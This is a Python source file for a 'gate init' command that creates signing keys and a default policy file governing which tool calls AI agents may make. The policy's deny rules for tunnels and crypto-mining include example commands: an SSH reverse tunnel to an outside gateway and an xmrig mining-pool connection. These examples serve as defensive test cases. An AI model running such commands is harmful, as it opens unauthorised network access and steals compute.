"""`gate init`: keys and a commented rules file; what is there already stays as it is."""

from __future__ import annotations

from pathlib import Path
from typing import Final

import click

from gate.commands.shared import bold, json_option, put

RULES: Final = """\
# The organisation's policy over every call; a capability says what one agent may do, this file what nobody may do, or only with a person's yes.
# Deny beats ask beats allow; the order of rules means nothing. `gate rules check` checks the file, `gate check CALLS.jsonl` tries calls on it.
# A rule's `match` and `not_match` examples are checked whenever the file is loaded, so a rule that stops working is noticed at once.

# What happens to a call that a capability covers and no rule speaks about, by its risk: allow, ask or deny.
[default]
low = "allow"
medium = "allow"
high = "ask"
critical = "ask"

# A tunnel is a way around every other rule.
[[rule]]
id = "no-tunnels"
deny = { technique = "T1572" }
reason = "a tunnel lets others in, or data out, past every check"
remedy = "ask the network team for a proper route"
match = ['shell.run command="ssh -fNR 2222:localhost:22 gw.example.com"']
not_match = ['shell.run command="git status"']

# Somebody else's money.
[[rule]]
id = "no-mining"
deny = { technique = "T1496" }
reason = "this machine's time is for the task"
match = ['shell.run command="xmrig -o stratum+tcp://pool.example.com:3333"']
not_match = ['shell.run command="python train.py"']

# Further rules, to copy. docs/reference/rules.md has every condition.
#
# [[rule]]
# id = "reading-needs-nobody"
# allow = { tool = "files.read", effect = "reads" }
# audit = "buffered"                 # recorded, without waiting for the disk
#
# [[rule]]
# id = "a-person-for-large-payments"
# ask = { tool = "pay.*", arguments = { eur = { constraint_type = "range", min = 100 } }, approvers = ["cfo"], expires = "10m" }
"""


@click.command("init", short_help="Make a gate here: keys and a commented gate.toml.")
@click.argument("folder", metavar="[DIR]", default=".")
@click.option("--origin", default="", metavar="NAME", help="The name of the gate's log, such as example.com/agents; made from its key by default.")
@json_option
def command(folder: str, origin: str, *, as_json: bool) -> None:
    """Make a gate in DIR (here by default): the folder .gate with its keys, and a commented gate.toml.

    Nothing that exists is overwritten.
    """
    from gate.gate import Gate
    from gate.log.note import verifier_key

    home, rules = Path(folder) / ".gate", Path(folder) / "gate.toml"
    made = [str(path) for path in (home, rules) if not path.exists()]
    with Gate(home, origin=origin) as gate:
        name = gate.home.origin
        gate.home.keys.signing("issuer")
        key = verifier_key(name, gate.home.keys.signing("log").public.raw)
    _write_new(rules)
    kept = [str(path) for path in (home, rules) if str(path) not in made]
    lines = [f"made {path}" for path in made] + [f"kept {path} as it is" for path in kept]
    lines += [
        "",
        "The log's public key; with it anyone can check the log, so keep a copy elsewhere:",
        f"  {bold(key)}",
        "",
        "Next: give an agent something to do, and see it in words.",
        "  gate grant researcher --tool 'save path=out/notes.md text=*' --minutes 15 > token.json",
        "  gate show token.json",
    ]
    put({"home": str(home), "rules": str(rules), "origin": name, "log_key": key, "made": made, "kept": kept}, lines, as_json=as_json)


def _write_new(path: Path) -> None:
    try:
        with path.open("x", encoding="utf-8") as file:
            file.write(RULES)
    except FileExistsError:
        return
